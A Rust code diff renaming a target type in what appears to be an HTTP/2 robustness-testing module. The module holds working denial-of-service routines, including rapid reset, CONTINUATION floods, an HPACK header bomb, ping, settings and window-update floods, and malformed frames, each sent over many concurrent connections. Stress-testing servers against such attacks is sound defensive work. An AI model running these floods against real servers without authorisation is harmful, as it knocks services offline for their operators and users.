@@ -5,7 +5,7 @@ use std::time::Duration;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::tcp::OwnedReadHalf;
 
-use crate::abuse::ground::{Ground, Seen, crowd};
+use crate::abuse::attack_target::{AttackTarget, Seen, crowd};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 const DATA: u8 = 0;
@@ -51,36 +51,36 @@ fn open(number: u32, flags: u8) -> Vec<u8> {
 }
 
 /// Streams that are taken back as soon as they are opened.
-pub(crate) async fn rapid_reset(ground: Ground) -> Seen {
-    flood(ground, Vec::new(), |number| {
+pub(crate) async fn rapid_reset(target: AttackTarget) -> Seen {
+    flood(target, Vec::new(), |number| {
         [open(number, END_STREAM), frame(RST_STREAM, 0, stream(number), &CANCEL)].concat()
     })
     .await
 }
 
 /// Streams that are opened and go nowhere.
-pub(crate) async fn open_streams(ground: Ground) -> Seen {
-    flood(ground, Vec::new(), |number| open(number, 0)).await
+pub(crate) async fn open_streams(target: AttackTarget) -> Seen {
+    flood(target, Vec::new(), |number| open(number, 0)).await
 }
 
 /// Streams that the server must reset: requests without a path (RFC 9113 section 8.1.1).
-pub(crate) async fn made_to_reset(ground: Ground) -> Seen {
+pub(crate) async fn made_to_reset(target: AttackTarget) -> Seen {
     let pathless = REQUEST.get(..2).unwrap_or_default();
-    flood(ground, Vec::new(), |number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), pathless))
+    flood(target, Vec::new(), |number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), pathless))
         .await
 }
 
 /// Windows that grow by nothing (RFC 9113 section 6.9).
-pub(crate) async fn empty_windows(ground: Ground) -> Seen {
-    flood(ground, Vec::new(), |number| {
+pub(crate) async fn empty_windows(target: AttackTarget) -> Seen {
+    flood(target, Vec::new(), |number| {
         [open(number, 0), frame(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat()
     })
     .await
 }
 
 /// Settings that change, and must each be acknowledged.
-pub(crate) async fn settings(ground: Ground) -> Seen {
-    bear(ground, |number| {
+pub(crate) async fn settings(target: AttackTarget) -> Seen {
+    bear(target, |number| {
         let window = (number & 0xffff).to_be_bytes();
         frame(SETTINGS, 0, 0, &[&[0, 4], window.as_slice()].concat())
     })
@@ -88,23 +88,23 @@ pub(crate) async fn settings(ground: Ground) -> Seen {
 }
 
 /// Pings, which must each be answered.
-pub(crate) async fn pings(ground: Ground) -> Seen {
-    bear(ground, |number| frame(PING, 0, 0, &[number.to_be_bytes(), [0; 4]].concat())).await
+pub(crate) async fn pings(target: AttackTarget) -> Seen {
+    bear(target, |number| frame(PING, 0, 0, &[number.to_be_bytes(), [0; 4]].concat())).await
 }
 
 /// Windows of the connection that grow by a byte, as long as they may.
-pub(crate) async fn windows(ground: Ground) -> Seen {
-    flood(ground, Vec::new(), |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await
+pub(crate) async fn windows(target: AttackTarget) -> Seen {
+    flood(target, Vec::new(), |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await
 }
 
 /// A stream that is taken back when it has long been answered, again and again.
-pub(crate) async fn late_resets(ground: Ground) -> Seen {
-    flood(ground, open(0, END_STREAM), |_| frame(RST_STREAM, 0, stream(0), &CANCEL)).await
+pub(crate) async fn late_resets(target: AttackTarget) -> Seen {
+    flood(target, open(0, END_STREAM), |_| frame(RST_STREAM, 0, stream(0), &CANCEL)).await
 }
 
 /// As many answers as may be asked for at a time, of which not a byte may be sent: the window of their
 /// streams is closed.
-pub(crate) async fn answers_unread(ground: Ground) -> Seen {
+pub(crate) async fn answers_unread(target: AttackTarget) -> Seen {
     let path = b"/api/v1/openapi.json";
     // `:method GET`, `:scheme http`, and a `:path` that is not kept (RFC 7541 section 6.2.2).
     let request = [&[0x82, 0x86, 0x04, path.len() as u8], path.as_slice()].concat();
@@ -112,47 +112,47 @@ pub(crate) async fn answers_unread(ground: Ground) -> Seen {
     let requests =
         (0..STREAMS).flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &request));
     let bytes: Vec<u8> = PREFACE.iter().copied().chain(settings).chain(requests).collect();
-    let times = ground.many(200, 20);
+    let times = target.many(200, 20);
     crowd(times, times, move |_| {
-        let (ground, bytes) = (ground.clone(), bytes.clone());
-        async move { play(&ground, bytes, UNREAD_PATIENCE, |_| Vec::new()).await }
+        let (target, bytes) = (target.clone(), bytes.clone());
+        async move { play(&target, bytes, UNREAD_PATIENCE, |_| Vec::new()).await }
     })
     .await
 }
 
 /// A head that goes on and on.
-pub(crate) async fn continuations(ground: Ground) -> Seen {
+pub(crate) async fn continuations(target: AttackTarget) -> Seen {
     let first = frame(HEADERS, 0, 1, &REQUEST);
     // A literal that is not kept: `x: yyy…`, as long as a frame may be.
     let value = vec![b'y'; 126];
     let literal = [&[0, 1, b'x', 126], value.as_slice()].concat();
     let more = frame(CONTINUATION, 0, 1, &literal.repeat(FRAME_BYTES / literal.len()));
-    flood(ground, first, move |_| more.clone()).await
+    flood(target, first, move |_| more.clone()).await
 }
 
 /// A header of four kilobytes, said once and then named by its place in the table, ten thousand times.
-pub(crate) async fn header_bomb(ground: Ground) -> Seen {
+pub(crate) async fn header_bomb(target: AttackTarget) -> Seen {
     // Kept in the table (RFC 7541 section 6.2.1); its length is 3,900 in seven bits and the rest.
     let value = vec![b'y'; 3_900];
     let kept = [&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d], value.as_slice()].concat();
     let block = [&REQUEST, kept.as_slice(), &[0xbe].repeat(10_000)].concat();
-    flood(ground, Vec::new(), move |number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &block))
+    flood(target, Vec::new(), move |number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &block))
         .await
 }
 
 /// Empty pieces of a body.
-pub(crate) async fn empty_data(ground: Ground) -> Seen {
-    flood(ground, open(0, 0), |_| frame(DATA, 0, 1, &[])).await
+pub(crate) async fn empty_data(target: AttackTarget) -> Seen {
+    flood(target, open(0, 0), |_| frame(DATA, 0, 1, &[])).await
 }
 
 /// More of a body than the server has room for.
-pub(crate) async fn beyond_the_window(ground: Ground) -> Seen {
+pub(crate) async fn beyond_the_window(target: AttackTarget) -> Seen {
     let piece = frame(DATA, 0, 1, &[0; FRAME_BYTES]);
-    flood(ground, open(0, 0), move |_| piece.clone()).await
+    flood(target, open(0, 0), move |_| piece.clone()).await
 }
 
 /// Frames that break the protocol, one on each connection.
-pub(crate) async fn broken_frames(ground: Ground) -> Seen {
+pub(crate) async fn broken_frames(target: AttackTarget) -> Seen {
     let mut seen = Seen::default();
     for broken in [
         frame(HEADERS, END_HEADERS, 0, &REQUEST),
@@ -169,20 +169,20 @@ pub(crate) async fn broken_frames(ground: Ground) -> Seen {
         frame(HEADERS, END_HEADERS, 1, &[0xff, 0xff, 0xff, 0xff, 0x0f]),
     ] {
         let bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &broken].concat();
-        seen.add(play(&ground, bytes, PATIENCE, |_| Vec::new()).await);
+        seen.add(play(&target, bytes, PATIENCE, |_| Vec::new()).await);
     }
     seen
 }
 
 /// The same frames over and over, on some connections, until the server ends it.
-async fn flood(ground: Ground, first: Vec<u8>, frames: impl Frames) -> Seen {
-    on_some_connections(ground, first, PATIENCE, frames).await
+async fn flood(target: AttackTarget, first: Vec<u8>, frames: impl Frames) -> Seen {
+    on_some_connections(target, first, PATIENCE, frames).await
 }
 
 /// Frames that the server need not forbid, for a while.
-async fn bear(ground: Ground, frames: impl Frames) -> Seen {
-    let a_while = ground.flood();
-    on_some_connections(ground, Vec::new(), a_while, frames).await
+async fn bear(target: AttackTarget, frames: impl Frames) -> Seen {
+    let a_while = target.flood();
+    on_some_connections(target, Vec::new(), a_while, frames).await
 }
 
 /// Makes the frames that a number stands for.
@@ -190,19 +190,24 @@ trait Frames: Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static {}
 
 impl<F: Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static> Frames for F {}
 
-async fn on_some_connections(ground: Ground, first: Vec<u8>, within: Duration, frames: impl Frames) -> Seen {
+async fn on_some_connections(
+    target: AttackTarget,
+    first: Vec<u8>,
+    within: Duration,
+    frames: impl Frames,
+) -> Seen {
     crowd(CONNECTIONS, CONNECTIONS, move |_| {
-        let (ground, frames) = (ground.clone(), frames.clone());
+        let (target, frames) = (target.clone(), frames.clone());
         let bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &first].concat();
-        async move { play(&ground, bytes, within, frames).await }
+        async move { play(&target, bytes, within, frames).await }
     })
     .await
 }
 
 /// Sends what a connection begins with, then frames over and over until the server ends it, or for so
 /// long; tells how it ended.
-async fn play(ground: &Ground, begin: Vec<u8>, within: Duration, frames: impl Frames) -> String {
-    let Ok(stream) = ground.connect().await else { return "refused to connect".to_owned() };
+async fn play(target: &AttackTarget, begin: Vec<u8>, within: Duration, frames: impl Frames) -> String {
+    let Ok(stream) = target.connect().await else { return "refused to connect".to_owned() };
     let (reading, mut writing) = stream.into_split();
     let writing = async {
         let mut number = 0;
